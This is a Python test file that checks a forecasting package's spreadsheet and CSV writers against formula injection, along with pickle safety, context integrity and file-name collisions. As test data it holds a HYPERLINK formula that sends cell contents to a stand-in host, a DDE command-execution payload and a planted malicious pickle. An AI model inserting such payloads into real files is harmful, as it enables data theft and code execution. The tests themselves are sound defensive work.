"""Outputs that are safe to hand out (issue 13): no cell of any XLSX or CSV the
project writes is a live formula, whatever the names in the data; no pickle in the
briefing context, which is used only when its key and its files' SHA-256 match;
file names distinct for names that differ only by tone marks, case or punctuation;
a failed batch leaves the earlier outputs as they were; no umask change."""
from __future__ import annotations

import csv
import io
import json
import pickle
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import nbformat
import numpy as np
import openpyxl
import pandas as pd
import pytest

from conftest import ROOT, make_tables
from nq21model import batch_files, briefings, config, files
from nq21model.fmt import unit_file_names

NQ21MODEL = ROOT / ".venv" / "bin" / "nq21model"
NOTEBOOK = ROOT / "notebooks" / "briefing.ipynb"

HYPERLINK = '=HYPERLINK("http://x"&A2,"y")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1)", "\tXã Tab", "\rXã CR"]
#: renames in the copy of the bundled data (names as the loader keeps them: trimmed)
DISTRICTS = {"Mường Tè": HYPERLINK, "Sìn Hồ": "@SUM(A1)"}
#: pairs whose file names would collide ("bản a" beside "Bản A" is one unit written two
#: ways: refused by the loader, so the case pair differs by an accent too)
COMMUNE_NAMES = [DDE, "+1+2", "-2+3", "Xã Nà Tăm", "Xã Nà Tâm", "Bản A", "bản à", "Khe-Lò", "Khe Lò"]
CELL_NAMES = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1)", "\tChi bộ tab"]


def cli(*args, check=True, timeout=600):
    proc = subprocess.run([str(NQ21MODEL), *map(str, args)], cwd=ROOT, capture_output=True, text=True,
                          timeout=timeout)
    if check and proc.returncode != 0:
        raise AssertionError(f"exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}")
    return proc


# ------------------------------------------------------------------ checks


def assert_no_formula(path: Path) -> list[str]:
    """No formula in the XLSX at ``path`` (openpyxl's view and the XML itself);
    returns every string cell."""
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = book.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[\s>/]", xml), f"{path.name}:{name} holds a formula"
    texts = []
    wb = openpyxl.load_workbook(path)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
                    if cell.value[:1] in files.FORMULA_STARTS:
                        assert cell.quotePrefix, f"{path.name}!{cell.coordinate} not quote-prefixed"
    return texts


_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def assert_csv_neutral(path: Path) -> list[str]:
    """No CSV cell a spreadsheet would read as a formula; returns every cell."""
    with open(path, encoding="utf-8", newline="") as fh:
        cells = [value for row in csv.reader(fh) for value in row]
    for value in cells:
        if value[:1] in ("=", "@", "\t", "\r") or (value[:1] in "+-" and value and not _NUMBER.fullmatch(value)):
            raise AssertionError(f"{path.name}: live cell {value!r}")
    return cells


# ------------------------------------------------------------------ data


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory):
    """The bundled data with districts, communes and cells renamed to hostile names
    (and communes that differ only by tone marks, case, punctuation)."""
    folder = tmp_path_factory.mktemp("hostile")
    for path in config.CELLS_FILE.parent.iterdir():
        shutil.copy(path, folder / path.name)
    cells = pd.read_csv(folder / "cells.csv", dtype=str)
    communes = [c for c in cells["commune"].unique() if not cells.loc[cells["commune"] == c, "district"]
                .isin(list(DISTRICTS)).any()][: len(COMMUNE_NAMES)]
    renames = {"district": DISTRICTS, "commune": dict(zip(communes, COMMUNE_NAMES))}
    for name in ("cells.csv", "organisations.csv", "totals.csv"):
        table = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
        for column in ("district", "commune", "unit"):
            if column in table.columns:
                table[column] = table[column].replace(renames.get(column, renames["district"]))
        if name == "cells.csv":
            table.loc[: len(CELL_NAMES) - 1, "cell_name"] = CELL_NAMES
        table.to_csv(folder / name, index=False)
    return folder


def data_args(folder):
    return ["--cells", folder / "cells.csv", "--history", folder / "history.csv"]


@pytest.fixture(scope="module")
def hostile(hostile_dir):
    """(results, allocation) of the hostile data, computed in this process."""
    from nq21model.allocate import allocate
    from nq21model.data import load_dataset
    from nq21model.forecast import forecast

    dataset = load_dataset(hostile_dir / "cells.csv", hostile_dir / "history.csv")
    assert set(DISTRICTS.values()) <= set(dataset.cells["district"])
    assert set(COMMUNE_NAMES) <= set(dataset.cells["commune"])
    return forecast(dataset, horizons=[2030]), allocate(dataset, horizon=2030)


# ------------------------------------------------------------ the writer


def test_writer_neutralises_every_text_cell(tmp_path):
    frame = pd.DataFrame({"name": HOSTILE + ["-5", "+3.5", "1e5", "Nà Tăm", None],
                          "value": np.arange(12) - 6.5,
                          HYPERLINK: ["x"] * 12})
    path = files.write_table({"a": frame, DDE: frame, "@" * 40: frame}, tmp_path / "t.xlsx")
    texts = assert_no_formula(path)
    # kept as text, not altered (XML reads a CR as a line feed)
    assert {h.replace("\r", "\n") for h in HOSTILE} <= set(texts) and HYPERLINK in texts
    book = openpyxl.load_workbook(path)
    assert len(book.sheetnames) == 3 and all(len(n) <= 31 for n in book.sheetnames)
    values = [c.value for c in book["a"]["B"][1:]]
    assert values == list(frame["value"])  # numbers stay numbers (negative too)
    cells = assert_csv_neutral(files.write_table(frame, tmp_path / "t.csv"))
    for name in HOSTILE:
        assert "'" + name.replace("\r", "\n") in cells  # a CR would end the row: a quoted LF
    assert "'" + HYPERLINK in cells  # the header too
    assert {"-5", "+3.5", "1e5", "Nà Tăm", "-6.5"} <= set(cells)  # numbers and plain text untouched


def test_column_scan_skips_only_columns_nothing_would_change():
    """The writer leaves a text column as it is when a scan finds no string its fix
    would change: the same cells as fixing every string, on random awkward text, in
    object columns and in both storages of pandas' strings (Arrow's bytes, Python's)."""
    import random

    rng = random.Random(3)
    letters = "ab =+-@\t\r\n\x01\x1f1.,ĐạiCò"

    for _ in range(300):
        values = [None if rng.random() < 0.1 else "".join(rng.choice(letters) for _ in range(rng.randint(0, 6)))
                  for _ in range(rng.randint(0, 30))]
        frame = pd.DataFrame({"obj": pd.Series(values, dtype=object),
                              "arrow": pd.Series(values, dtype=pd.StringDtype("pyarrow", na_value=np.nan)),
                              "python": pd.Series(values, dtype=pd.StringDtype("python", na_value=np.nan)),
                              "n": range(len(values))})
        for fix, scan in ((files._csv_text, files._CSV_MAY_CHANGE), (files._xlsx_text, files._XLSX_MAY_CHANGE)):
            every = pd.DataFrame({c: pd.Series([fix(v) if isinstance(v, str) else v for v in frame[c].astype(object)],
                                               dtype=object) for c in frame})  # the fix of each string
            pd.testing.assert_frame_equal(files._map_text(frame, fix, scan).astype(object), every)


def test_neutralise_follows_owasp():
    assert files.neutralise("=1+2") == "'=1+2"
    assert files.neutralise("-2+3") == "'-2+3" and files.neutralise("-2") == "-2"
    assert files.neutralise("+1+2") == "'+1+2" and files.neutralise("+1,5") == "+1,5"
    assert files.neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert files.neutralise("\tx") == "'\tx" and files.neutralise("\rx") == "'\rx"
    assert files.neutralise("Nà Tăm") == "Nà Tăm" and files.neutralise("") == ""


# --------------------------------------------------------- every command


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_forecast_out_has_no_live_cell(hostile_dir, tmp_path, suffix):
    out = tmp_path / f"forecast{suffix}"
    cli("forecast", *data_args(hostile_dir), "--horizon", "2030", "--out", out)
    texts = assert_no_formula(out) if suffix == ".xlsx" else assert_csv_neutral(out)
    prefix = "" if suffix == ".xlsx" else "'"
    assert {prefix + HYPERLINK, prefix + DDE, prefix + "+1+2", prefix + "-2+3", prefix + "@SUM(A1)"} <= set(texts)


@pytest.mark.slow
def test_allocate_out_and_workbooks_have_no_live_cell(hostile_dir, tmp_path):
    for suffix in (".xlsx", ".csv"):
        out = tmp_path / f"quotas{suffix}"
        args = ["--workbooks", tmp_path / "wb"] if suffix == ".xlsx" else []
        cli("allocate", *data_args(hostile_dir), "--unit", "commune", "--out", out, *args)
        texts = assert_no_formula(out) if suffix == ".xlsx" else assert_csv_neutral(out)
        assert (DDE in texts) if suffix == ".xlsx" else ("'" + DDE in texts)
    books = sorted((tmp_path / "wb").glob("*.xlsx"))
    cells = pd.read_csv(hostile_dir / "cells.csv")
    assert len(books) == cells["commune"].nunique()  # one per commune: no list lost to a name clash
    for book in books:
        assert_no_formula(book)


def test_template_has_no_live_cell(tmp_path):
    out = tmp_path / "mau.xlsx"
    cli("template", "--out", out)
    assert_no_formula(out)
    assert cli("template", "--out", tmp_path / "mau.csv", check=False).returncode == 2


@pytest.mark.slow
def test_briefing_writers_have_no_live_cell(hostile, tmp_path):
    from nq21model.quota_tables import write_quota_workbooks

    results, allocation = hostile
    names = sorted(results.dataset.cells["district"].unique())
    path = tmp_path / "at_risk.xlsx"
    batch_files.write_at_risk_xlsx(results, path, by="district", units=names)
    texts = assert_no_formula(path)
    assert HYPERLINK in texts or "@SUM(A1)" in texts
    sheets = openpyxl.load_workbook(path).sheetnames
    assert len(sheets) == len(names) + 1 and "@SUM(A1)" in sheets
    for by in ("district", "commune"):
        paths = write_quota_workbooks(allocation, tmp_path / by, by=by)
        assert len(set(paths.values())) == len(paths) == results.dataset.cells[by].nunique()
        assert sorted(tmp_path.joinpath(by).iterdir()) == sorted(paths.values())
        for unit, book in paths.items():
            sheet = pd.read_excel(book, sheet_name="Chỉ tiêu", header=1).iloc[:-1]  # title row, totals row
            assert set(sheet["Huyện" if by == "district" else "Xã"]) == {unit}  # each file its own unit
            assert_no_formula(book)
        if by == "commune":
            slugs = unit_file_names(paths)
            assert {p.name for p in paths.values()} == {f"chi_tieu_ket_nap_{s}.xlsx" for s in slugs.values()}
            assert paths["Xã Nà Tăm"] != paths["Xã Nà Tâm"] and paths["Bản A"] != paths["bản à"]
            assert paths["Khe-Lò"] != paths["Khe Lò"]


def test_explorer_export_goes_through_the_writer(tmp_path):
    """The explorer writes with files.write_table (checked on a frame of hostile names)."""
    import inspect

    from nq21model import explorer, explorer_view

    source = inspect.getsource(explorer) + inspect.getsource(explorer_view)
    assert "write_table(" in source and "to_excel" not in source and "ExcelWriter" not in source


def test_no_writer_bypasses_the_one_writer():
    """Outside files.py, nothing writes a table with pandas or openpyxl directly
    (synth.py writes the data set itself, as text)."""
    package = ROOT / "nq21model"
    for path in package.glob("*.py"):
        if path.name in ("files.py", "synth.py"):
            continue
        text = path.read_text(encoding="utf-8")
        for call in (".to_excel(", ".to_csv(", "ExcelWriter(", "Workbook(", "import pickle", "pickle.load"):
            assert call not in text, f"{path.name} uses {call}"


# ----------------------------------------------------------- file names


@pytest.mark.parametrize("pair", [("Xã Nà Tăm", "Xã Nà Tâm"), ("Bản A", "bản a"), ("Nà-Tăm", "Nà Tăm"),
                                  ("Xã Nà Tăm", "xa na tam")])
def test_names_that_slugify_alike_get_distinct_files(pair):
    slugs = unit_file_names(pair)
    assert len(set(slugs.values())) == 2
    assert slugs == unit_file_names(reversed(pair))  # stable for a set, whatever the order
    assert briefings.unit_slugs(pair) == slugs
    assert all(s == s.lower() and re.fullmatch(r"[a-z0-9-]+", s) for s in slugs.values())


def test_file_names_never_clash_with_a_suffix_or_a_device():
    names = ["Xã Nà Tâm", "Xã Nà Tăm", "Xã Nà Tâm 2", "CON", "x" * 300, "x" * 301, "", "=1+2"]
    slugs = unit_file_names(names)
    assert len(set(slugs.values())) == len(names)
    assert slugs["CON"] != "con" and all(len(s) <= 84 for s in slugs.values())


def test_write_tables_refuses_two_outputs_for_one_file(tmp_path):
    from nq21model.exceptions import ParameterError

    frame = pd.DataFrame({"a": [1]})
    with pytest.raises(ParameterError, match="same file"):
        files.write_tables({tmp_path / "A.xlsx": frame, tmp_path / "a.xlsx": frame})
    assert list(tmp_path.iterdir()) == []


def test_a_table_written_meanwhile_is_in_place_only_when_both_succeed(tmp_path, monkeypatch):
    """forecast --out F.csv writes the cells on a side thread while the unit tables are
    computed: the file appears whole, as write_table writes it, once both are done; a
    failure of either leaves the file the user had, and no staging folder behind."""
    frame = pd.DataFrame({"cell_id": ["=1+1", "b"], "p": [0.1234567890123, 1.0]})
    out, alone = tmp_path / "cells.csv", tmp_path / "alone.csv"
    files.write_table(frame, alone)
    with files.table_written_meanwhile(frame, out):
        assert sum(range(10**5)) > 0  # the caller's work
    assert out.read_bytes() == alone.read_bytes()
    out.write_text("the user's file\n")
    with pytest.raises(ZeroDivisionError):
        with files.table_written_meanwhile(frame, out):
            1 / 0  # the caller's work fails
    def disk_full(frame, path):
        Path(path).write_text("half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files, "_write_csv", disk_full)  # the writer fails, on its thread
    with pytest.raises(OSError, match="No space left"):
        with files.table_written_meanwhile(frame, out):
            pass
    assert out.read_text() == "the user's file\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["alone.csv", "cells.csv"]


# --------------------------------------------------------- the context


@pytest.fixture(scope="module")
def small_results():
    from nq21model.data import Dataset
    from nq21model.forecast import forecast

    cells, history = make_tables()
    return forecast(Dataset(cells, history))


class _Plant:
    """Unpickling this creates the file ``marker``."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (Path(self.marker),))


def test_planted_pickle_is_never_unpickled(small_results, tmp_path):
    from nq21model.context import save_extras
    from nq21model.extras import briefing_extras, extras_key

    marker = tmp_path / "pwned"
    context = tmp_path / "_context"
    context.mkdir()
    (context / "extras.pickle").write_bytes(pickle.dumps(_Plant(marker)))
    extras = briefing_extras(small_results, by="district", context_dir=str(context))
    assert not marker.exists() and extras.key == extras_key(small_results, "district")
    # beside a valid context too; and saving removes it
    save_extras(extras, context)
    assert not (context / "extras.pickle").exists()
    (context / "extras.pickle").write_bytes(pickle.dumps(_Plant(marker)))
    briefing_extras(small_results, by="district", context_dir=str(context))
    assert not marker.exists()
    from nq21model.context import load_calibration_json

    assert load_calibration_json(context, small_results.dataset, small_results.base_year) is None
    assert not marker.exists()
    assert all(p.suffix == ".json" for p in context.iterdir() if p.name != "extras.pickle")


def test_context_with_a_wrong_hash_or_key_is_ignored(small_results, tmp_path):
    from nq21model.context import ContextError, load_extras, save_extras
    from nq21model.extras import briefing_extras, compute_extras, extras_key

    key = extras_key(small_results, "district")
    extras = compute_extras(small_results, by="district")
    context = tmp_path / "_context"
    extras.calibration_json = '{"kind": "nq21model.calibration"}'
    save_extras(extras, context)
    assert load_extras(context, key=key).problems == extras.problems
    from nq21model.context import load_calibration_json

    base = small_results.base_year
    assert load_calibration_json(context, small_results.dataset, base) == extras.calibration_json
    assert load_calibration_json(context, small_results.dataset, base - 1) is None  # another base year
    # a table altered after saving (still valid JSON): refused, and the briefing recomputes
    manifest = json.loads((context / "manifest.json").read_text(encoding="utf-8"))
    table = next(name for name in manifest["files"] if name.startswith("table-"))
    doc = json.loads((context / table).read_text(encoding="utf-8"))
    doc["attrs"] = {"$dict": [["planted", True]]}
    (context / table).write_text(json.dumps(doc), encoding="utf-8")
    with pytest.raises(ContextError, match="SHA-256"):
        load_extras(context, key=key)
    fresh = briefing_extras(small_results, by="district", context_dir=str(context))
    assert fresh.key == key
    # another key: refused before anything but the manifest is read (extras.json is garbage)
    save_extras(extras, context)
    (context / "extras.json").write_bytes(b"\x80garbage")
    with pytest.raises(ContextError, match="another run"):
        load_extras(context, key=key[:-1] + ("other",))
    with pytest.raises(ContextError, match="SHA-256"):
        load_extras(context, key=key)
    # a key that would build anything but plain values is refused as it is read
    manifest = json.loads((context / "manifest.json").read_text(encoding="utf-8"))
    manifest["key"] = {"$object": "Dataset", "id": 0, "fields": {}}
    (context / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(ContextError, match="unreadable key"):
        load_extras(context, key=key)
    # a manifest naming a file outside the folder, or a class not on the list
    save_extras(extras, context)
    manifest = json.loads((context / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"]["../x.json"] = "0" * 64
    (context / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(ContextError, match="unexpected file name"):
        load_extras(context, key=key)


def test_decoder_builds_no_other_class():
    from nq21model.context import ContextError, _Decoder

    for doc in ({"$object": "Popen", "id": 0, "fields": {"args": ["true"]}},
                {"$scalar": "<V8", "value": 1}, {"$whatever": 1}):
        with pytest.raises(ContextError):
            _Decoder({}).decode(doc)


def _assert_same(x, y, where="extras"):
    import dataclasses
    import math

    from nq21model.context import LazyTables

    if isinstance(x, dict) and isinstance(y, LazyTables):  # a table per unit, decoded when asked for
        y = {key: y[key] for key in y}
    assert type(x) is type(y), (where, type(x), type(y))
    if isinstance(x, pd.DataFrame):
        pd.testing.assert_frame_equal(x, y, check_exact=True, check_index_type=True, check_column_type=True)
        assert type(x.index) is type(y.index) and list(x.dtypes) == list(y.dtypes), where
        assert x.columns.dtype == y.columns.dtype and x.index.dtype == y.index.dtype, where
    elif isinstance(x, np.ndarray):
        assert x.dtype == y.dtype and x.shape == y.shape, where
        np.testing.assert_array_equal(x, y)
    elif dataclasses.is_dataclass(x):
        for f in dataclasses.fields(x):
            if f.init:  # what a context holds (TrackerData's cache of yearly counts is not)
                _assert_same(getattr(x, f.name), getattr(y, f.name), f"{where}.{f.name}")
    elif isinstance(x, dict):
        assert list(x) == list(y), where
        for k in x:
            _assert_same(x[k], y[k], f"{where}[{k!r}]")
    elif isinstance(x, (list, tuple)):
        assert len(x) == len(y), where
        for i, (u, v) in enumerate(zip(x, y)):
            _assert_same(u, v, f"{where}[{i}]")
    elif isinstance(x, float) and math.isnan(x):
        assert math.isnan(y), where
    else:
        assert x == y, (where, x, y)


@pytest.mark.slow
def test_context_round_trips_exactly(hostile, tmp_path):
    """Every part of the province-wide extras (tracker tables with boolean and object
    columns, the allocation's arrays and dicts, the paths, the scores…) comes back
    with the same values, dtypes, index and labels."""
    from nq21model.context import load_extras, save_extras
    from nq21model.extras import compute_extras, extras_key

    results, _ = hostile
    units = sorted(results.dataset.cells["district"].unique())[:2]
    extras = compute_extras(results, by="district", units=units, jobs=2)
    extras.calibration_json = json.dumps({"kind": "x", "values": [1.5, None]})
    extras.problems["backtest"] = HYPERLINK
    assert extras.tracker is not None and extras.allocation is not None and extras.targets is not None
    save_extras(extras, tmp_path / "_context")
    again = load_extras(tmp_path / "_context", key=extras_key(results, "district"))
    _assert_same(extras, again)
    assert again.allocation.table.equals(extras.allocation.table)
    assert again.tracker.dataset.members_at(results.base_year).equals(extras.tracker.dataset.members_at(
        results.base_year))


# ------------------------------------------------------------ the batch


@pytest.fixture(scope="module")
def small_dir(tmp_path_factory):
    folder = tmp_path_factory.mktemp("small")
    cells, history = make_tables()
    cells.to_csv(folder / "cells.csv", index=False)
    history.to_csv(folder / "history.csv", index=False)
    return folder


def _earlier(out: Path) -> dict:
    """Plant an earlier run's batch files; return their bytes."""
    for folder in ("_context", "chi_tieu", "district"):
        (out / folder).mkdir(parents=True, exist_ok=True)
    (out / "_context" / "manifest.json").write_text('{"earlier": true}', encoding="utf-8")
    (out / "chi_tieu" / "chi_tieu_ket_nap_sin-ho.xlsx").write_bytes(b"earlier quota list")
    (out / "district" / "sin-ho.html").write_text("earlier briefing", encoding="utf-8")
    for name in briefings.BATCH_FILES:
        (out / name).write_text(f"earlier {name}", encoding="utf-8")
    return _snapshot(out)


def _snapshot(out: Path) -> dict:
    return {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()
            and not p.name.endswith(".failed.ipynb")}


def _broken_notebook(tmp_path: Path, condition: str) -> Path:
    nb = nbformat.read(NOTEBOOK, as_version=4)
    nb.cells.insert(2, nbformat.v4.new_code_cell(f'if {condition}:\n    raise RuntimeError("broken on purpose")'))
    path = tmp_path / "broken.ipynb"
    nbformat.write(nb, path)
    return path


@pytest.mark.slow
def test_failed_batch_leaves_every_earlier_output(small_dir, tmp_path):
    out = tmp_path / "outputs"
    before = _earlier(out)
    notebook = _broken_notebook(tmp_path, "True")
    proc = cli("briefings", *data_args(small_dir), "--out", out, "--jobs", "2", "--notebook", notebook,
               check=False)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Made 0 of 2" in proc.stdout and "nothing replaced" in proc.stdout
    assert _snapshot(out) == before  # _context/, chi_tieu/, index, at_risk.xlsx, manifest, briefings
    assert sorted(p.name for p in (out / "district").glob("*.failed.ipynb")) == \
        ["sin-ho.failed.ipynb", "tam-duong.failed.ipynb"]
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


@pytest.mark.slow
def test_batch_with_a_briefing_replaces_the_province_wide_files(small_dir, tmp_path):
    out = tmp_path / "outputs"
    before = _earlier(out)
    (out / "_context" / "extras.pickle").write_bytes(b"planted")
    notebook = _broken_notebook(tmp_path, 'unit == "Sìn Hồ"')
    proc = cli("briefings", *data_args(small_dir), "--out", out, "--jobs", "2", "--notebook", notebook,
               check=False)
    assert proc.returncode == 1 and "Made 1 of 2" in proc.stdout, proc.stdout + proc.stderr
    assert (out / "district" / "sin-ho.html").read_bytes() == before["district/sin-ho.html"]  # per unit
    assert sorted(p.name for p in (out / "_context").iterdir())[:2] == ["extras.json", "manifest.json"]
    assert not (out / "_context" / "extras.pickle").exists()
    assert json.loads((out / "_context" / "manifest.json").read_text())["format"] == "nq21model.briefing-context"
    books = sorted(p.name for p in (out / "chi_tieu").iterdir())
    assert books == ["chi_tieu_ket_nap_sin-ho.xlsx", "chi_tieu_ket_nap_tam-duong.xlsx"]
    assert (out / "chi_tieu" / books[0]).read_bytes() != before["chi_tieu/chi_tieu_ket_nap_sin-ho.xlsx"]
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["files"]["Tam Đường"] == {
        "slug": "tam-duong", "html": "district/tam-duong.html", "notebook": "district/tam-duong.ipynb",
        "quota_workbook": "chi_tieu/chi_tieu_ket_nap_tam-duong.xlsx", "at_risk_sheet": "Tam Đường"}
    assert manifest["parameters"]["context_dir"] == str(out / "_context")
    assert not [p for p in out.iterdir() if p.name.startswith(".")]
    mode = 0o666 & ~files.current_umask()
    for path in [out / "index.html", out / "_context" / "manifest.json", out / "chi_tieu" / books[0]]:
        assert path.stat().st_mode & 0o777 == mode
    assert (out / "_context").stat().st_mode & 0o777 == 0o777 & ~files.current_umask()


# --------------------------------------------------------------- umask


def test_umask_is_read_not_changed():
    code = ("import os; os.umask(0o027); import nq21model.files as f, nq21model.briefings, nq21model.cli; "
            "print(oct(os.umask(0o027)), oct(f.current_umask()), oct(f.file_mode()))")
    proc = subprocess.run([str(ROOT / ".venv" / "bin" / "python"), "-c", code], capture_output=True, text=True,
                          check=True)
    assert proc.stdout.split() == ["0o27", "0o27", "0o640"]


def test_csv_by_pyarrow_reads_back_as_by_pandas(tmp_path):
    """The CSV writer (pyarrow's where the columns are numbers and text) gives the
    cells pandas' writer gives: text with commas, quotes and newlines quoted, blanks
    blank, floats to the same value; booleans and mixed columns still by pandas."""
    text = ["Bản Nà Tăm", 'Tổ "1", phường', "hai\ndòng", None, "=cmd", "-3.5"]
    frame = pd.DataFrame({
        "text": pd.Series(text, dtype="str"), "plain": [f"C{i}" for i in range(6)],
        "n": np.arange(6), "x": [0.1, 1.0, np.nan, 1e-12, -2.5, 1 / 3],
        "maybe": pd.array([1, None, 3, 4, 5, 6], dtype="Int64"),
    })
    for columns in (["plain", "n", "x"], ["text", "n", "x", "maybe"], ["plain", "n"]):
        for extra in ({}, {"flag": [True, False] * 3}, {"mixed": ["a", 1, None, 2.5, "b", "c"]}):
            table = frame[columns].assign(**extra)
            ours = tmp_path / "ours.csv"
            files.write_table(table, ours)
            theirs = files._map_text(table.assign(**{c: table[c].round(10) for c in table.select_dtypes("float")}),
                                     files._csv_text, files._CSV_MAY_CHANGE)
            read = [pd.read_csv(p, dtype=str, keep_default_na=False)
                    for p in (ours, io.StringIO(theirs.to_csv(index=False, lineterminator="\n")))]
            assert list(read[0].columns) == list(read[1].columns)
            for col in read[0]:
                a, b = read[0][col], read[1][col]
                if col == "x":
                    pd.testing.assert_series_equal(pd.to_numeric(a), pd.to_numeric(b))
                else:
                    assert a.tolist() == b.tolist(), (col, extra)
            if not extra:
                assert ours.read_text(encoding="utf-8").startswith(",".join(columns) + "\n")
    # two header levels, a repeated name, one column with a blank: pandas' own rows
    for table in (pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("a", "x"), ("a", "y")])),
                  pd.DataFrame([[1, 2]], columns=["a", "a"]), pd.DataFrame({"a": ["", "q"]})):
        files.write_table(table, ours)
        assert ours.read_text(encoding="utf-8") == table.to_csv(index=False, lineterminator="\n")
